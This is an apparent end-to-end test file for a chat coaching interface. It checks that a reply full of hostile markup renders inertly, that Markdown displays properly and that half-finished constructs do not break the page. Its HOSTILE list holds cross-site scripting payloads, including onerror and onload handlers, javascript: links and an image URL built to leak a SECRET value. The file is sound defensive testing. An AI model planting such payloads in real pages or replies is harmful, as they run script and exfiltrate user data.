import { expect, test } from '../support/e2e';
import { seedThread } from '../support/e2e-seed';
import { say } from '../support/scripted-answers';

const HOSTILE = [
  '<img src=x onerror="window.harmed = 1">',
  '<iframe srcdoc="<script>parent.harmed = 2</script>"></iframe>',
  '<svg onload="window.harmed = 3"></svg>',
  '<script>window.harmed = 4</script>',
  '[a link](javascript:window.harmed=5)',
  '![a picture](http://127.0.0.1:9/leak?d=SECRET)',
  '<a href="javascript:window.harmed=6">raw</a>',
  '![data](data:image/svg+xml,<svg onload=alert(1)>)',
  'The end.',
].join('\n\n');

test('a hostile reply is inert: no script runs, no element of its own, nothing is fetched, its text can be read', async ({
  page,
  visitor,
  coach,
  upstream,
}) => {
  upstream.chat(say(HOSTILE));
  const threadId = await seedThread(visitor, { strategy: 'buffer' }, 0);
  await coach.open(threadId);
  await coach.ask(1, HOSTILE);
  const turn = coach.turn(1);
  await expect(turn.getByText('The end.').last()).toBeVisible();
  await expect(turn.getByText('a link', { exact: true })).toBeVisible();
  await expect(turn.locator('img, iframe, script, form, object, embed')).toHaveCount(0);
  await expect(turn.locator('a[href^="javascript"], a[href^="data"]')).toHaveCount(0);
  await turn.getByText('a link', { exact: true }).click();
  await expect(coach.panel).toBeVisible();
  await page.goto(`/threads/${threadId}/archive`);
  await expect(page.getByRole('row').getByText('<img src=x onerror').first()).toBeVisible();
  expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
});

test('a reply reads as the Markdown it is: list, table, code and a link that opens elsewhere', async ({
  visitor,
  coach,
  upstream,
}) => {
  upstream.chat(
    say(
      '## Plan\n\n- one **bold** item\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n\n[RBI](https://rbi.org.in)',
    ),
  );
  await coach.open(await seedThread(visitor, { strategy: 'buffer' }, 0));
  await coach.ask(1, 'Show me');
  const turn = coach.turn(1);
  await expect(turn.getByRole('listitem')).toHaveText(['one bold item', 'two']);
  await expect(turn.getByRole('cell')).toHaveText(['1', '2']);
  await expect(turn.getByRole('code')).toHaveText(/code/);
  const link = turn.getByRole('link', { name: 'RBI' });
  await expect(link).toHaveAttribute('href', 'https://rbi.org.in');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', /noopener/);
});

test('half a construct is shown as it comes and never breaks the page', async ({
  visitor,
  coach,
  upstream,
}) => {
  upstream.chat(say('Here is **half a bold and ```half a block and [half a link](https://exa'));
  await coach.open(await seedThread(visitor, { strategy: 'buffer' }, 0));
  await coach.ask(1, 'Show me');
  await expect(coach.turn(1)).toContainText('half a bold');
  await expect(coach.turn(1)).toContainText('half a link');
});
